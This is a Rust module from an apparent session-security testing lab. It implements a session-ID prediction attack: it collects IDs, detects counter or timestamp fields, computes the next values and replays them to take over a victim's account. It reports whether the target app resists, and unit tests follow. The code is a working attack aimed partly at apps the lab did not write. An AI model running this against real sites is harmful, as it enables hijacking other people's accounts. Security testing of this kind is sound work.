//! `hijack-predict`: harvest session IDs, find the pattern, compute the victim's.
//!
//! The attacker opens the login page with fresh browsers and keeps the IDs the
//! app hands out. tower-sessions IDs are 16 bytes in base64url: decoded, a
//! counter shows a constant step, and the next values are the next visitors'
//! IDs. 128 bits from a CSPRNG show no step, and there is nothing to compute.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use crate::actors::{judge, log_in, read_own_note, refused_cookie, replay_session_id, short};
use crate::analyze::{self, collect::collect};
use crate::lab::{RunContext, RunError};
use crate::outcome::{Actor, Verdict};

/// How many anonymous sessions the attacker collects.
const HARVEST: usize = 5;
/// How many predicted IDs the attacker tries after the last harvested one.
const GUESSES: i128 = 20;
/// A step larger than this is not a counter anyone could walk.
const MAX_COUNTER_STEP: i128 = 1 << 20;
/// Length of a tower-sessions ID in base64url (16 bytes).
const ID_LEN: usize = 22;

/// What the attacker concluded from the harvested IDs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum IdPattern {
    /// Consecutive IDs differ by a constant `step`.
    Counter { last: i128, step: i128 },
    /// Nothing to predict; the text says what the attacker saw.
    NoStructure(String),
}

/// Decodes an ID as the app encodes it: the last 22 characters (a signed cookie
/// puts its signature first) are 16 bytes of base64url, a little-endian integer.
pub fn decode_id(value: &str) -> Option<i128> {
    let id = value.get(value.len().checked_sub(ID_LEN)?..)?;
    let bytes: [u8; 16] = URL_SAFE_NO_PAD.decode(id).ok()?.try_into().ok()?;
    Some(i128::from_le_bytes(bytes))
}

/// Encodes a number the way the app encodes IDs.
pub fn encode_id(value: i128) -> String {
    URL_SAFE_NO_PAD.encode(value.to_le_bytes())
}

/// Looks for a constant step between consecutive decoded IDs.
pub fn analyse(ids: &[String]) -> IdPattern {
    let decoded: Option<Vec<i128>> = ids.iter().map(|id| decode_id(id)).collect();
    let Some(values) = decoded else {
        return IdPattern::NoStructure("the IDs do not decode to 16-byte values".into());
    };
    let steps: Vec<i128> = values.windows(2).map(|w| w[1].wrapping_sub(w[0])).collect();
    match steps.first() {
        Some(&step)
            if step != 0 && step.abs() < MAX_COUNTER_STEP && steps.iter().all(|&s| s == step) =>
        {
            IdPattern::Counter {
                last: *values.last().expect("at least two IDs"),
                step,
            }
        }
        _ => IdPattern::NoStructure(format!(
            "decoded, they are 128-bit numbers with no constant step (e.g. {:.2e} between the first two)",
            steps.first().copied().unwrap_or_default() as f64
        )),
    }
}

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    if ctx.target.app.is_some() {
        return run_through_the_analyzer(ctx).await;
    }
    let cookie = ctx.target.session_cookie.clone();
    let mut harvested = Vec::new();
    for _ in 0..HARVEST {
        let mut fresh = ctx.browser(Actor::Attacker, "attacker");
        fresh.open(&ctx.login_url(), None).await?;
        if let Some(c) = fresh.jar.cookies().iter().find(|c| c.name == cookie) {
            harvested.push(c.value.clone());
        }
    }
    if harvested.len() < 2 {
        let mut probe = ctx.browser(Actor::Attacker, "attacker");
        probe.open(&ctx.login_url(), None).await?;
        let why = refused_cookie(&probe)
            .map(|r| format!(": {r}"))
            .unwrap_or_default();
        return Err(RunError::Lab(format!(
            "the app handed out no session IDs to anonymous visitors{why}"
        )));
    }
    let pattern = analyse(&harvested);
    let seen = match &pattern {
        IdPattern::Counter { last, step } => {
            format!(
                "IDs {} decode to a counter: …, {}, {} (step {step})",
                harvested.join(" "),
                last - step,
                last
            )
        }
        IdPattern::NoStructure(why) => {
            format!(
                "IDs {}: {why}",
                harvested
                    .iter()
                    .map(|i| short(i))
                    .collect::<Vec<_>>()
                    .join(" ")
            )
        }
    };
    ctx.step(
        Actor::Attacker,
        format!("opened the login page {HARVEST} times and kept the session IDs"),
        seen,
    );

    let mut victim = ctx.browser(Actor::Victim, "victim");
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    ctx.step(
        Actor::Victim,
        format!("{} logged in and opened her account", ctx.victim.username),
        "saw her private note",
    );

    let IdPattern::Counter { last, step } = pattern else {
        let evidence = format!(
            "{HARVEST} harvested IDs showed no structure to extrapolate; no ID worth guessing"
        );
        let looked = ctx.step(
            Actor::Attacker,
            "looked for a counter or timestamp in the IDs",
            &evidence,
        );
        return Ok(Verdict::blocked(evidence, looked));
    };
    for k in 1..=GUESSES {
        let guess = last + step * k;
        let account = ctx.proof_url();
        let probe = replay_session_id(ctx, &encode_id(guess), account).await?;
        if probe.shows(&ctx.target, &note) {
            let context = format!("guess #{k} after the last harvested ID: counter value {guess}");
            let action = format!("tried the next IDs after {last}");
            return Ok(judge(
                ctx,
                &action,
                &probe,
                &note,
                &context,
                &format!("ID {}", encode_id(guess)),
            ));
        }
    }
    let evidence =
        format!("the IDs counted, but none of the next {GUESSES} opened the victim's account");
    let tried = ctx.step(
        Actor::Attacker,
        format!("tried the next IDs after {last}"),
        &evidence,
    );
    Ok(Verdict::blocked(evidence, tried))
}

/// How many IDs the attacker collects from an app the lab did not write.
const ANALYZER_SAMPLE: usize = 500;

/// Against an app the lab did not write, whose IDs may be in any format: the
/// attacker runs the token analyzer ([`crate::analyze`]) on a sample of
/// fresh IDs. Without a counter or timestamp there is nothing to compute.
/// With one, he computes the next values of the field, written as the app
/// writes its IDs, and tries each.
async fn run_through_the_analyzer(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let path = ctx.target.login_path().to_string();
    let tokens = match collect(&ctx.target, &path, ANALYZER_SAMPLE).await {
        Ok(tokens) => tokens,
        Err(why) => {
            let evidence = format!("no IDs to harvest: {why}");
            let step = ctx.step(
                Actor::Attacker,
                format!("opened {path} for session IDs"),
                &evidence,
            );
            return Ok(Verdict::blocked(evidence, step));
        }
    };
    let analysis = analyze::analyse(&path, &tokens).map_err(RunError::Lab)?;
    let looked = ctx.step(
        Actor::Attacker,
        format!(
            "opened {path} {ANALYZER_SAMPLE} times with fresh browsers and ran the token analyzer on the session IDs"
        ),
        format!(
            "{} ({} of {} bits pass; `sessionlab analyze` shows the details)",
            analysis.verdict, analysis.effective_bits, analysis.bits
        ),
    );
    let Some(structure) = analysis.structures.first().cloned() else {
        return Ok(Verdict::blocked(
            format!(
                "{ANALYZER_SAMPLE} harvested IDs: {}; nothing to extrapolate",
                analysis.verdict
            ),
            looked,
        ));
    };
    let decoded = analyze::decode::decode_all(&tokens);
    let Some(sample) = decoded
        .iter()
        .rev()
        .find(|d| d.bytes.len() * 8 == analysis.bits)
        .cloned()
    else {
        return Err(RunError::Lab(
            "no harvested ID has the analysed length".into(),
        ));
    };

    let mut victim = ctx.browser(Actor::Victim, "victim");
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    ctx.step(
        Actor::Victim,
        format!("{} logged in and opened her account", ctx.victim.username),
        "saw the page only she sees",
    );

    let (from, to) = structure.bytes;
    let step = structure.gap_value.max(1);
    for k in 1..=GUESSES as u128 {
        let value = structure.max_value.wrapping_add(step.wrapping_mul(k));
        let mut bytes = sample.bytes.clone();
        let width = to - from;
        let field = if structure.big_endian {
            value.to_be_bytes()[16 - width..].to_vec()
        } else {
            value.to_le_bytes()[..width].to_vec()
        };
        bytes[from..to].copy_from_slice(&field);
        let Some(guess) = analyze::decode::encode_like(&sample, &bytes) else {
            let evidence = format!(
                "the IDs have a {} field, but the cookie is signed: a computed ID needs the signing key",
                structure.kind
            );
            let tried = ctx.step(Actor::Attacker, "computed the next IDs", &evidence);
            return Ok(Verdict::blocked(evidence, tried));
        };
        let account = ctx.proof_url();
        let probe = replay_session_id(ctx, &guess, account).await?;
        if probe.shows(&ctx.target, &note) {
            return Ok(judge(
                ctx,
                &format!("tried the next values of the {} field", structure.kind),
                &probe,
                &note,
                &format!("guess #{k} after the largest harvested value: {value}"),
                &format!("ID {}", short(&guess)),
            ));
        }
    }
    let evidence = format!(
        "the IDs have a {} field, but none of the next {GUESSES} values opened the victim's page",
        structure.kind
    );
    let tried = ctx.step(
        Actor::Attacker,
        format!("tried the next values of the {} field", structure.kind),
        &evidence,
    );
    Ok(Verdict::blocked(evidence, tried))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_counter_is_found_and_extrapolated() {
        let ids: Vec<String> = (1000..1005).map(encode_id).collect();
        assert_eq!(
            analyse(&ids),
            IdPattern::Counter {
                last: 1004,
                step: 1
            }
        );
    }

    #[test]
    fn random_ids_show_no_structure() {
        let ids: Vec<String> = [
            0x1234_5678_9abc_def0_1122_3344_5566_7788_i128,
            -42_000_000_000_000_000_000,
            7,
        ]
        .into_iter()
        .map(encode_id)
        .collect();
        assert!(matches!(analyse(&ids), IdPattern::NoStructure(_)));
    }

    #[test]
    fn a_signed_cookie_is_decoded_from_its_last_22_characters() {
        let signed = format!("{}{}", "x".repeat(44), encode_id(1001));
        assert_eq!(decode_id(&signed), Some(1001));
    }

    #[test]
    fn garbage_does_not_decode() {
        assert_eq!(decode_id("short"), None);
        assert!(matches!(
            analyse(&["!!".into(), "??".into()]),
            IdPattern::NoStructure(_)
        ));
    }
}
